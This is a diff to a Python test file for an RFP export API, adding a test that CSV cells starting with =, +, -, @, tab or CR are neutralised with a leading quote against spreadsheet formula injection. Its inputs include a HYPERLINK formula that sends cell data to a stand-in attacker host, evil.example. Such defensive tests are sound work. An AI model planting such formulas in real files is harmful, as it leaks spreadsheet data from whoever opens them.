@@ -41,8 +41,28 @@ async def test_export_csv__items_in_order_as_attachment(client, conn, admin):
     assert rows == [
         ["question", "answer", "state", "confidence", "section"],
         ["Do you encrypt data?\nAt rest and in transit.", 'Yes, "always".', "auto_answered", "0.875", "Data"],
-        ['=HYPERLINK("http://x")', "", "pending", "", ""],
+        ['\'=HYPERLINK("http://x")', "", "pending", "", ""],
     ]
+
+
+async def test_export_csv__formula_cells_are_neutralised(client, conn, admin):
+    """Issue 17, finding 7 (OWASP CSV injection): a cell starting with = + - @ tab or CR is
+    prefixed with a quote so a spreadsheet shows it as text instead of running it."""
+    questions = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
+                 "\tcmd", "\rcmd", "a = b", "'quoted"]
+    response = await client.post(
+        "/api/v1/rfps", json={"rfp": {"title": "t", "items": [{"question": q} for q in questions]}},
+        headers=admin.headers,
+    )
+    rfp_id = (await response.json())["id"]
+    await conn.execute("UPDATE rfp_items SET answer = '=1+2', section = '@x' WHERE rfp_id = $1", rfp_id)
+    response = await client.get(f"/api/v1/rfps/{rfp_id}/export", headers=admin.headers)
+    rows = list(csv.reader(io.StringIO(await response.text())))[1:]
+    assert [row[0] for row in rows] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'+1+1", "'-2+3", "'@SUM(A1)",
+        "'\tcmd", "'\rcmd", "a = b", "'quoted",
+    ]
+    assert {(row[1], row[4]) for row in rows} == {("'=1+2", "'@x")}
 
 
 async def test_export_xlsx__readable_and_formula_text_stays_text(client, conn, admin):
